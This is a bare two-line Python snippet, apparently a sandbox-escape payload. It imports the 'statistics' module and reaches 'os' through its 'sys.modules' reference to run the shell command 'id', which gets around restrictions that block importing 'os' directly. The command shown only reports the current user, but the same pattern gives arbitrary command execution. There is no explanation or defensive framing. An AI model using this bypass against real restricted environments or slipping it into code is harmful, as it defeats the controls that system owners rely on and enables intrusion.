import statistics
statistics.sys.modules["os"].system("id")
